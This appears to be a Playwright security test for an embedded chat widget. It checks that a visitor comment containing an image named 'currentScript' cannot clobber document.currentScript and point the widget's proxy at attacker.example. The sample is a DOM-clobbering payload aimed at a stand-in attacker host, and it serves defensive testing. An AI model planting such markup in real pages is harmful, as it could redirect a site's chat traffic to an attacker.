import { sampleOf } from '../../test/support/sample.ts';
import { expect, hostPage, testOn } from '../support/on-host-page.ts';
import { Visitor } from '../support/visitor.ts';

const test = testOn();

/** For example a comment of a visitor: sanitizers allow an image with a name, which shadows `document.currentScript`. */
const userContent = `
  <img name="currentScript" alt="" src="https://attacker.example/leadchat/" data-open data-title="Attacker"
       data-proxy-url="https://attacker.example">`;

const tags = {
  'a script': '<script src="SRC"></script>',
  'a script with async': '<script src="SRC" async></script>',
  'a module': '<script type="module" src="SRC"></script>',
};

for (const [kind, tag] of sampleOf(Object.entries(tags), 1)) {
  test(`user content cannot pose as the tag of ${kind}`, async ({ page, site }) => {
    const foreignRequests: string[] = [];
    await page.route('https://attacker.example/**', (route) => {
      if (route.request().resourceType() !== 'image') foreignRequests.push(route.request().url());
      return route.fulfill({
        status: 200,
        contentType: 'image/gif',
        body: Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'),
      });
    });
    const body = `${userContent}${tag.replace('SRC', `${site.proxy.url}/leadchat.js`)}`;
    await page.goto(site.put('/comments.html', hostPage({ body })));
    const visitor = new Visitor(page);
    expect(await page.evaluate(() => document.currentScript instanceof HTMLImageElement)).toBe(true);
    await expect(page.getByRole('button', { name: 'Open chat' })).toBeVisible();
    await visitor.openChat();
    await expect(visitor.phone).toBeVisible();
    await expect(page.getByRole('dialog', { name: 'Northlight Dental' })).toBeVisible();
    expect(foreignRequests).toEqual([]);
  });
}
